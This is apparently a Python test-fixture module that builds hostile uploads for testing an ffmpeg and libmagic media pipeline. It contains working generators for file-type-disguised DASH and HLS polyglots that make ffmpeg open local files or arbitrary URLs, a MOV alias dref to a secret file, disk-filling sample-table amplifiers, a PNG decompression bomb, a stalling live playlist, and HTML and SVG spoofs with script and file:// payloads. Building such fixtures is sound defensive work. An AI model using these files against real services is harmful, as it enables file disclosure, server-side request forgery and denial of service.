"""Hostile uploads, built at test time: files that attack ffmpeg rather than the web layer.

Each `make_*` writes one file into `directory` and returns its path. They target ffmpeg 5.1 as
Debian 12 ships it and libmagic 5.44 (python-magic), the pair the worker runs; every claim in a
docstring was checked against those binaries with plain ffprobe/ffmpeg (issue #11).

Reference polyglots. libmagic and ffmpeg's probe disagree about one ID3v2.4 detail: with the
"footer present" flag set, ffmpeg skips the 10-byte header *and* a 10-byte footer before it
probes and before the demuxer reads, while libmagic looks for the tagged content right after the
header. Ten bytes of QuickTime box there make libmagic say `video/quicktime`; ffmpeg never sees
them and probes the playlist or manifest that follows. That one disguise works for every
text-based format (DASH, HLS, ffconcat, SDP, IMF). `make_dash_xml_polyglot` is a second,
ID3-free disguise for DASH alone.

Targets are written verbatim. With a local input ffmpeg allows nested `file` (and `data`)
opens only; with an http input (a presigned S3 URL) it allows http(s), tcp, udp and rtp but not
`file`. So pass an absolute path to attack the local backend and an http URL to attack the S3
backend; one file cannot do both, because the first nested open that fails aborts the input.
"""

from __future__ import annotations

import struct
import subprocess
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Literal
from urllib.parse import urlsplit
from xml.sax.saxutils import escape, quoteattr

MIB = 1024 * 1024

Disguise = Literal["quicktime", "octet-stream", "none"]

# ID3v2.4 header, empty (syncsafe size 0), flags 0x10 = footer present: ffmpeg skips 20 bytes,
# libmagic reads the content at byte 10 (its `indirect` at 6.I+10 ignores the footer flag).
ID3_WITH_FOOTER = b"ID3\x04\x00\x10\x00\x00\x00\x00"
# Ten bytes a QuickTime file could start with (`moov` at offset 4): libmagic's `video/quicktime`.
QUICKTIME_BAIT = struct.pack(">I4s", 8, b"moov") + b"\x00\x00"
# The same header without the footer flag: libmagic says "Audio file with ID3 version 2" and
# reports `application/octet-stream`, the type the pipeline hands to ffprobe to decide.
ID3_PLAIN = b"ID3\x04\x00\x00\x00\x00\x00\x00"

# Extensions both the hls (allowed_segment_extensions, extension_picky) and dash
# (allowed_extensions) demuxers accept for a nested input; others are refused before opening.
NESTED_MEDIA_EXTENSIONS = (".mp4", ".mov", ".m4v", ".ts")

# What `make_secret_video` makes: dimensions no other fixture uses, so a probe that reports
# them has read the secret.
SECRET_WIDTH = 208
SECRET_HEIGHT = 112
SECRET_SECONDS = 3


def disguised(text: str, disguise: Disguise) -> bytes:
    """The bytes of a text format behind the chosen disguise (see the module docstring)."""
    body = text.encode()
    if disguise == "quicktime":
        return ID3_WITH_FOOTER + QUICKTIME_BAIT + body
    if disguise == "octet-stream":
        return ID3_PLAIN + body
    return body


def _write(directory: Path, name: str, data: bytes) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_bytes(data)
    return path


def _require_media_extension(target: str) -> str:
    """Refuse a target ffmpeg would skip before opening it, so a test cannot pass vacuously."""
    path = urlsplit(target).path if "://" in target else target
    if not path.lower().endswith(NESTED_MEDIA_EXTENSIONS):
        raise ValueError(f"target must end in one of {NESTED_MEDIA_EXTENSIONS}: {target!r}")
    if any(c in target for c in "\r\n\"'<>&"):
        raise ValueError(f"target has characters the formats would need escaped: {target!r}")
    return target


# --- the secret a polyglot tries to read ---------------------------------------------------


def make_secret_video(directory: Path) -> Path:
    """A real H.264 MP4 (`secret.mp4`, SECRET_WIDTH x SECRET_HEIGHT, SECRET_SECONDS long).

    Put it outside the media root: if an asset ever reports its dimensions or duration, or its
    poster shows it, ffmpeg opened a file the uploader named. Needs ffmpeg.
    """
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "secret.mp4"
    subprocess.run(
        ["ffmpeg", "-hide_banner", "-loglevel", "error", "-y", "-f", "lavfi", "-i",
         f"testsrc=size={SECRET_WIDTH}x{SECRET_HEIGHT}:rate=10:duration={SECRET_SECONDS}",
         "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", str(path)],
        check=True, timeout=60, capture_output=True,
    )
    return path


# --- reference-format polyglots --------------------------------------------------------------

DASH_PROFILE = "urn:mpeg:dash:profile:isoff-on-demand:2011"


def _mpd(target: str, comment: str = "") -> str:
    return (
        f'<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="{DASH_PROFILE}" type="static"'
        f' mediaPresentationDuration="PT{SECRET_SECONDS}S" minBufferTime="PT1S">{comment}'
        '<Period><AdaptationSet mimeType="video/mp4">'
        '<Representation id="1" bandwidth="100000">'
        f"<BaseURL>{escape(target)}</BaseURL>"
        "</Representation></AdaptationSet></Period></MPD>\n"
    )


def make_dash_polyglot(directory: Path, target: str, disguise: Disguise = "quicktime") -> Path:
    """A DASH manifest whose one Representation's BaseURL is `target`.

    dash_probe scores `<MPD` plus a profile at the maximum, and the demuxer opens the BaseURL as
    a nested input: a local read (`file:` URL or absolute path, local backend) or a request to
    any host (http URL, S3 backend). Sniffs as video/quicktime by default.
    """
    return _write(directory, "dash.mov", disguised(_mpd(_require_media_extension(target)),
                                                    disguise))


def make_dash_xml_polyglot(directory: Path, target: str) -> Path:
    """A DASH manifest that is plain, well-formed XML and still sniffs as video/quicktime.

    It opens with the processing instruction `<?a moov?>`, so bytes 4-7 are `moov` (libmagic:
    QuickTime). mov_probe would score that 100 and tie with dash, but it returns 5 when it
    finds `hdlr....mhlrMPEG` at an even offset after a `moov` (its MOV-packed MPEG-PS escape
    hatch), which a comment inside the MPD supplies. No ID3 trick: a second, independent way
    the two probes disagree.
    """
    head = "<?a moov?>"
    marker = "hdlr    mhlrMPEG"
    target = _require_media_extension(target)
    text = head + _mpd(target, comment=f"<!--{marker}-->")
    if text.index(marker) % 2:  # mov_probe looks at even offsets only
        text = head + _mpd(target, comment=f"<!-- {marker}-->")
    return _write(directory, "dash-xml.mov", text.encode())


def _m3u8(*lines: str, live: bool = False) -> str:
    body = ["#EXTM3U", "#EXT-X-VERSION:7", "#EXT-X-TARGETDURATION:10",
            "#EXT-X-MEDIA-SEQUENCE:0", *lines]
    return "\n".join(body + ([] if live else ["#EXT-X-ENDLIST"])) + "\n"


def make_hls_polyglot(directory: Path, target: str, disguise: Disguise = "quicktime") -> Path:
    """An HLS media playlist with one segment, `target`.

    hls_probe wants `#EXTM3U` first and a playlist tag; the segment is a nested input. The
    segment URL must end in a media extension and the nested demuxer must match it
    (allowed_segment_extensions, extension_picky), or ffmpeg skips it before opening.
    """
    text = _m3u8("#EXTINF:3.0,", _require_media_extension(target))
    return _write(directory, "hls.mov", disguised(text, disguise))


def make_hls_map_polyglot(directory: Path, target: str, disguise: Disguise = "quicktime") -> Path:
    """An HLS playlist whose `#EXT-X-MAP` init section is `target` (and so is its segment).

    The init section is opened before the first segment: a second nested-input path through
    the same demuxer, for a filter that only rewrites segment lines.
    """
    target = _require_media_extension(target)
    text = _m3u8(f'#EXT-X-MAP:URI="{target}"', "#EXTINF:3.0,", target)
    return _write(directory, "hls-map.mov", disguised(text, disguise))


def make_hls_key_polyglot(directory: Path, target: str, disguise: Disguise = "quicktime") -> Path:
    """An HLS playlist whose AES-128 key URI is `target` (the segment is `target` too).

    ffmpeg fetches the key when it opens the segment: one more URL an uploader chooses.
    """
    target = _require_media_extension(target)
    text = _m3u8(f'#EXT-X-KEY:METHOD=AES-128,URI="{target}"', "#EXTINF:3.0,", target)
    return _write(directory, "hls-key.mov", disguised(text, disguise))


def make_hls_variant_polyglot(directory: Path, target: str,
                              disguise: Disguise = "quicktime") -> Path:
    """An HLS master playlist whose only variant playlist is `target`.

    ffmpeg opens the variant to parse it as a playlist: a request to any http URL (S3
    backend), or a read of a local file that then fails to parse.
    """
    text = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000\n" + _require_media_extension(target) + "\n"
    return _write(directory, "hls-variant.mov", disguised(text, disguise))


def make_concat_polyglot(directory: Path, target: str, disguise: Disguise = "quicktime") -> Path:
    """An ffconcat list with one `file` entry, `target`.

    The concat demuxer's default `safe=1` refuses absolute paths, URLs and `..` ("Unsafe file
    name"), so an absolute or http target is refused by plain ffmpeg; a relative one is opened
    next to the list (a sibling in staging, or the same S3 host without the signature).
    """
    if any(c in target for c in "\r\n'\\"):
        raise ValueError(f"target has characters ffconcat would need escaped: {target!r}")
    text = f"ffconcat version 1.0\nfile '{target}'\n"
    return _write(directory, "concat.mov", disguised(text, disguise))


def make_sdp_polyglot(directory: Path, port: int, disguise: Disguise = "quicktime") -> Path:
    """An SDP description of an RTP/H.264 stream on UDP `port`, connection 127.0.0.1.

    sdp_probe scores any `c=IN IP` line at 50, above the disguise's mov score. With a local
    input `rtp` is not whitelisted and the open fails at once; with an http input ffmpeg binds
    UDP `port` and `port + 1` on 0.0.0.0 and waits about 10 s for packets from anyone.
    """
    text = (
        "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    )
    return _write(directory, "sdp.mov", disguised(text, disguise))


def make_imf_polyglot(directory: Path, disguise: Disguise = "quicktime") -> Path:
    """An IMF Composition Playlist (CPL) that imf_probe scores at the maximum.

    In 5.1 the imf demuxer is AVFMT_EXPERIMENTAL, so the probe never picks it: plain ffprobe
    answers "Invalid data". Only `-f imf` opens it, and then it reads `ASSETMAP.xml` beside the
    CPL. Kept so the corpus covers every nested-input demuxer that is built in.
    """
    uuid = "urn:uuid:8713c020-2489-45f5-a9f7-87be539e20b"
    text = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        f"<Id>{uuid}0</Id><ContentTitle>hostile</ContentTitle><EditRate>25 1</EditRate>"
        f"<SegmentList><Segment><Id>{uuid}1</Id><SequenceList>"
        '<MainImageSequence xmlns="http://www.smpte-ra.org/schemas/2067-2/2016">'
        f"<Id>{uuid}2</Id><TrackId>{uuid}3</TrackId><ResourceList><Resource>"
        f"<Id>{uuid}4</Id><EditRate>25 1</EditRate><IntrinsicDuration>50</IntrinsicDuration>"
        f"<TrackFileId>{uuid}5</TrackFileId></Resource></ResourceList></MainImageSequence>"
        "</SequenceList></Segment></SegmentList></CompositionPlaylist>\n"
    )
    return _write(directory, "imf.mov", disguised(text, disguise))


TargetedPolyglot = Callable[[Path, str], Path]

# The polyglots that take (directory, target), for parametrised tests.
TARGETED_POLYGLOTS: dict[str, TargetedPolyglot] = {
    "dash": make_dash_polyglot,
    "dash-xml": make_dash_xml_polyglot,
    "hls": make_hls_polyglot,
    "hls-map": make_hls_map_polyglot,
    "hls-key": make_hls_key_polyglot,
    "hls-variant": make_hls_variant_polyglot,
    "concat": make_concat_polyglot,
}


# --- ISO BMFF boxes ----------------------------------------------------------------------------


def box(kind: bytes, *payload: bytes) -> bytes:
    """One ISO BMFF box (ISO/IEC 14496-12 §4.2) with a 32-bit size."""
    body = b"".join(payload)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def full_box(kind: bytes, version: int, flags: int, *payload: bytes) -> bytes:
    return box(kind, struct.pack(">I", (version << 24) | flags), *payload)


def iter_boxes(data: bytes) -> Iterator[tuple[bytes, int, int]]:
    """(type, payload start, box end) of each box in `data`, top level only."""
    offset = 0
    while offset + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, offset)
        header = 8
        if size == 1:
            size, header = struct.unpack_from(">Q", data, offset + 8)[0], 16
        elif size == 0:
            size = len(data) - offset
        if size < header:
            return
        yield kind, offset + header, offset + size
        offset += size


def top_level_types(data: bytes) -> list[bytes]:
    return [kind for kind, _, _ in iter_boxes(data)]


def find_box(data: bytes, *path: bytes) -> bytes:
    """The payload of the first box along `path` (container types only on the way)."""
    for kind, start, end in iter_boxes(data):
        if kind == path[0]:
            return data[start:end] if len(path) == 1 else find_box(data[start:end], *path[1:])
    raise KeyError(b"/".join(path).decode())


MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def _minimal_jpeg(width: int, height: int, size: int) -> bytes:
    """A baseline grey JPEG of exactly `size` bytes: a flat image plus COM padding.

    Two-symbol Huffman tables whose 1-bit code `0` is DC category 0 and AC end-of-block make
    every 8x8 block two zero bits (ffmpeg rejects a table with a single code).
    """
    def segment(marker: int, payload: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, 2 + len(payload)) + payload

    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    bits = 2 * blocks
    # The blocks, then 1-bits to a byte boundary and one stuffed 0xFF 0x00 byte of padding
    # (without it ffmpeg's decoder overshoots the scan and warns "EOI missing").
    scan = b"\x00" * (bits // 8) + (bytes([0xFF >> (bits % 8)]) if bits % 8 else b"") + b"\xff\x00"
    table = bytes([1, 1] + [0] * 14) + b"\x00\x01"  # symbol 0: code 0; symbol 1: code 10
    head = (
        b"\xff\xd8"
        + segment(0xDB, b"\x00" + b"\x01" * 64)
        + segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
        + segment(0xC4, b"\x00" + table)
        + segment(0xC4, b"\x10" + table)
    )
    tail = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + scan + b"\xff\xd9"
    padding = size - len(head) - len(tail)
    comments = []
    while padding > 0:
        chunk = min(padding - 4, 0xFFFF - 2)
        if chunk < 1:
            raise ValueError(f"cannot pad a JPEG to exactly {size} bytes")
        comments.append(segment(0xFE, b"\x00" * chunk))
        padding -= chunk + 4
    return head + b"".join(comments) + tail


def _mjpeg_sample_entry(width: int, height: int) -> bytes:
    """An `mp4v` sample entry with an esds naming MJPEG (object type 0x6C)."""
    def descriptor(tag: int, payload: bytes) -> bytes:
        return bytes([tag, len(payload)]) + payload

    config = descriptor(4, struct.pack(">BB", 0x6C, 0x11) + b"\x00\x00\x00" + bytes(8))
    es = descriptor(3, struct.pack(">HB", 1, 0) + config + descriptor(6, b"\x02"))
    return box(
        b"mp4v", bytes(6), struct.pack(">H", 1), bytes(16),
        struct.pack(">HHIIIH", width, height, 0x480000, 0x480000, 0, 1), bytes(32),
        struct.pack(">Hh", 0x18, -1), full_box(b"esds", 0, 0, es),
    )


def make_sample_table_amplifier(directory: Path, sample_bytes: int = MIB,
                                sample_count: int = 3000) -> Path:
    """An MP4 (moov after mdat) whose `sample_count` samples all point at one `sample_bytes` JPEG.

    The upload is about `sample_bytes` plus 4 bytes per sample of `stco`; a stream copy
    (`-c copy -movflags +faststart`, exactly what the pipeline runs for a late moov) writes
    every sample out in full, `sample_bytes * sample_count` bytes (3000 MiB by default), then
    rewrites them once more to move the index. Written box by box, no ffmpeg needed.
    """
    width = height = 16
    timescale, delta = 25, 1
    ftyp = box(b"ftyp", b"isom", struct.pack(">I", 512), b"isomiso2mp41")
    mdat = box(b"mdat", _minimal_jpeg(width, height, sample_bytes))
    offset = len(ftyp) + 8
    duration = sample_count * delta
    stbl = box(
        b"stbl",
        full_box(b"stsd", 0, 0, struct.pack(">I", 1), _mjpeg_sample_entry(width, height)),
        full_box(b"stts", 0, 0, struct.pack(">III", 1, sample_count, delta)),
        full_box(b"stsc", 0, 0, struct.pack(">IIII", 1, 1, 1, 1)),
        full_box(b"stsz", 0, 0, struct.pack(">II", sample_bytes, sample_count)),
        full_box(b"stco", 0, 0, struct.pack(">I", sample_count),
                 struct.pack(">I", offset) * sample_count),
    )
    minf = box(
        b"minf", full_box(b"vmhd", 0, 1, bytes(8)),
        box(b"dinf", full_box(b"dref", 0, 0, struct.pack(">I", 1), full_box(b"url ", 0, 1))),
        stbl,
    )
    mdia = box(
        b"mdia",
        full_box(b"mdhd", 0, 0, struct.pack(">IIIIHH", 0, 0, timescale, duration, 0x55C4, 0)),
        full_box(b"hdlr", 0, 0, bytes(4), b"vide", bytes(12), b"VideoHandler\x00"),
        minf,
    )
    tkhd = full_box(b"tkhd", 0, 3, struct.pack(">IIIII", 0, 0, 1, 0, duration), bytes(8),
                    struct.pack(">hhhH", 0, 0, 0, 0), MATRIX,
                    struct.pack(">II", width << 16, height << 16))
    mvhd = full_box(b"mvhd", 0, 0, struct.pack(">IIIIIH", 0, 0, timescale, duration, 0x10000,
                                               0x100), bytes(10), MATRIX, bytes(24),
                    struct.pack(">I", 2))
    moov = box(b"moov", mvhd, box(b"trak", tkhd, mdia))
    return _write(directory, "amplifier.mp4", ftyp + mdat + moov)


def _aac_sample_entry() -> bytes:
    """An `mp4a` sample entry with an esds naming AAC-LC, 44.1 kHz stereo (object type 0x40,
    AudioSpecificConfig 0x1210)."""
    def descriptor(tag: int, payload: bytes) -> bytes:
        return bytes([tag, len(payload)]) + payload

    specific = descriptor(5, b"\x12\x10")
    config = descriptor(4, struct.pack(">BB", 0x40, 0x15) + b"\x00\x00\x00" + bytes(8) + specific)
    es = descriptor(3, struct.pack(">HB", 1, 0) + config + descriptor(6, b"\x02"))
    return box(b"mp4a", bytes(6), struct.pack(">H", 1), bytes(8),
               struct.pack(">HHHHI", 2, 16, 0, 0, 44100 << 16), full_box(b"esds", 0, 0, es))


def make_sound_sample_table_amplifier(directory: Path, sample_bytes: int = MIB,
                                      sample_count: int = 3000) -> Path:
    """The same attack in a sound track: an M4A (moov after mdat) whose AAC-LC samples all point
    at one `sample_bytes` run of zeros. Sound that plays as it is, in an MP4 whose index is at
    the end: the pipeline stream-copies it into a faststart MP4, which would write
    `sample_bytes * sample_count` bytes."""
    timescale, delta = 44100, 1024
    ftyp = box(b"ftyp", b"M4A ", struct.pack(">I", 512), b"M4A isomiso2")
    mdat = box(b"mdat", bytes(sample_bytes))
    offset = len(ftyp) + 8
    duration = sample_count * delta
    stbl = box(
        b"stbl",
        full_box(b"stsd", 0, 0, struct.pack(">I", 1), _aac_sample_entry()),
        full_box(b"stts", 0, 0, struct.pack(">III", 1, sample_count, delta)),
        full_box(b"stsc", 0, 0, struct.pack(">IIII", 1, 1, 1, 1)),
        full_box(b"stsz", 0, 0, struct.pack(">II", sample_bytes, sample_count)),
        full_box(b"stco", 0, 0, struct.pack(">I", sample_count),
                 struct.pack(">I", offset) * sample_count),
    )
    minf = box(
        b"minf", full_box(b"smhd", 0, 0, bytes(4)),
        box(b"dinf", full_box(b"dref", 0, 0, struct.pack(">I", 1), full_box(b"url ", 0, 1))),
        stbl,
    )
    mdia = box(
        b"mdia",
        full_box(b"mdhd", 0, 0, struct.pack(">IIIIHH", 0, 0, timescale, duration, 0x55C4, 0)),
        full_box(b"hdlr", 0, 0, bytes(4), b"soun", bytes(12), b"SoundHandler\x00"),
        minf,
    )
    tkhd = full_box(b"tkhd", 0, 3, struct.pack(">IIIII", 0, 0, 1, 0, duration), bytes(8),
                    struct.pack(">hhhH", 0, 0, 0x100, 0), MATRIX, struct.pack(">II", 0, 0))
    mvhd = full_box(b"mvhd", 0, 0, struct.pack(">IIIIIH", 0, 0, timescale, duration, 0x10000,
                                               0x100), bytes(10), MATRIX, bytes(24),
                    struct.pack(">I", 2))
    moov = box(b"moov", mvhd, box(b"trak", tkhd, mdia))
    return _write(directory, "amplifier.m4a", ftyp + mdat + moov)


def _alias_dref(path: str) -> bytes:
    """A `dref` with one Mac alias (`alis`) record whose absolute path is `path`.

    The layout is what mov_read_dref reads: 150 fixed bytes, then typed records; type 2 is the
    absolute path. nlvl_from = nlvl_to = -1 selects mov_open_dref's absolute-path branch.
    """
    encoded = path.encode()
    name = encoded.rsplit(b"/", 1)[-1][:63]
    alias = (
        bytes(10) + b"\x00" + bytes(27) + bytes(12) + bytes([len(name)]) + name.ljust(63, b"\0")
        + bytes(16) + struct.pack(">hh", -1, -1) + bytes(16)
        + struct.pack(">hH", 2, len(encoded)) + encoded + (b"\0" if len(encoded) % 2 else b"")
        + struct.pack(">hH", -1, 0)
    )
    entry = struct.pack(">I4sI", 12 + len(alias), b"alis", 0) + alias
    return full_box(b"dref", 0, 0, struct.pack(">I", 1), entry)


def _replace_dref(data: bytes, dref: bytes) -> bytes:
    containers = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}
    out = []
    for kind, start, end in iter_boxes(data):
        if kind == b"dref":
            out.append(dref)
        elif kind in containers:
            out.append(box(kind, _replace_dref(data[start:end], dref)))
        else:
            out.append(box(kind, data[start:end]))
    return b"".join(out)


def make_mov_dref(directory: Path, secret: Path) -> Path:
    """The secret MP4's own `ftyp` + `moov`, its data reference turned into an alias to `secret`.

    No media data: the sample table's offsets are the secret's, so a demuxer that follows the
    alias decodes the secret. ffmpeg skips external tracks unless `enable_drefs=1`, and tries
    an absolute alias only with `use_absolute_path=1` too, so plain ffmpeg reads nothing. Sniffs
    as video/mp4 because it is one.
    """
    data = secret.read_bytes()
    ftyp = box(b"ftyp", find_box(data, b"ftyp"))
    moov = _replace_dref(box(b"moov", find_box(data, b"moov")), _alias_dref(str(secret)))
    return _write(directory, "dref.mp4", ftyp + moov + box(b"mdat"))


# --- the decompression bomb --------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png_bomb(directory: Path, width: int = 16000, height: int = 16000) -> Path:
    """A black RGBA PNG of `width` x `height` whose IDAT is zlib of zeros (about 1 MB).

    Decoding it needs width * height * 4 bytes (16000 x 16000: 1 GB) at once, and ffprobe
    decodes the first frame while probing, so even `-show_streams` pays it. Under
    av_image_check_size's cap (about 268 M pixels), so ffmpeg does not refuse it by itself.
    Compressed in a stream, never held whole in memory.
    """
    packer = zlib.compressobj(9)
    stride = 1 + 4 * width  # filter byte 0 + RGBA; every byte is zero
    remaining = stride * height
    zeros = bytes(4 * MIB)
    parts = []
    while remaining:
        step = min(remaining, len(zeros))
        parts.append(packer.compress(zeros[:step]))
        remaining -= step
    parts.append(packer.flush())
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    data = (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", b"".join(parts)) + _png_chunk(b"IEND", b""))
    return _write(directory, "bomb.png", data)


def png_dimensions(data: bytes) -> tuple[int, int]:
    """Width and height from a PNG's IHDR (the first chunk)."""
    if data[:8] != b"\x89PNG\r\n\x1a\n" or data[12:16] != b"IHDR":
        raise ValueError("not a PNG")
    return struct.unpack(">II", data[16:24])


# --- the input that never ends -----------------------------------------------------------------

STALL_SECONDS = 86400


def make_live_hls_stall(directory: Path, disguise: Disguise = "quicktime") -> Path:
    """A live HLS playlist (no `#EXT-X-ENDLIST`) whose one segment says it lasts a day.

    The segment (`data:,x.ts`, four bytes inline, so no file or host is involved) cannot be
    demuxed; a live playlist then waits for new segments, reloading every segment duration
    (STALL_SECONDS) up to m3u8_hold_counters = 1000 times: ffprobe and ffmpeg block in
    avformat_open_input for years while using no CPU, so only a wall-clock limit ends them.
    """
    text = _m3u8(f"#EXTINF:{STALL_SECONDS}.0,", "data:,x.ts", live=True)
    text = text.replace("#EXT-X-TARGETDURATION:10", f"#EXT-X-TARGETDURATION:{STALL_SECONDS}")
    return _write(directory, "stall.mov", disguised(text, disguise))


# --- spoofed files -----------------------------------------------------------------------------


def make_html_as_video(directory: Path) -> Path:
    """An HTML page named `clip.mp4`: stored as video it would be served, and run, as a page."""
    html = ("<!DOCTYPE html>\n<html><head><title>x</title></head><body>"
            "<script>document.title = document.cookie</script></body></html>\n")
    return _write(directory, "clip.mp4", html.encode())


def make_svg_as_image(directory: Path) -> Path:
    """An SVG with a script and an external image, named `image.png`.

    libmagic says image/svg+xml (not accepted); ffmpeg would take it too (svg_pipe, librsvg).
    """
    svg = ('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
           'xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
           f"<image xlink:href={quoteattr('file:///etc/hostname')} width='64' height='64'/>"
           "<script>alert(document.domain)</script></svg>\n")
    return _write(directory, "image.png", svg.encode())


def make_zeros(directory: Path, size: int = MIB) -> Path:
    """`size` zero bytes named `zeros.mp4`: libmagic's application/octet-stream, so the
    pipeline asks ffprobe, which must say no."""
    return _write(directory, "zeros.mp4", bytes(size))


def make_truncated_mp4(directory: Path, source: Path, keep: float = 0.5) -> Path:
    """The first `keep` of `source` (an ffmpeg MP4, moov at the end): the index is cut off."""
    data = source.read_bytes()
    return _write(directory, "truncated.mp4", data[: max(16, int(len(data) * keep))])

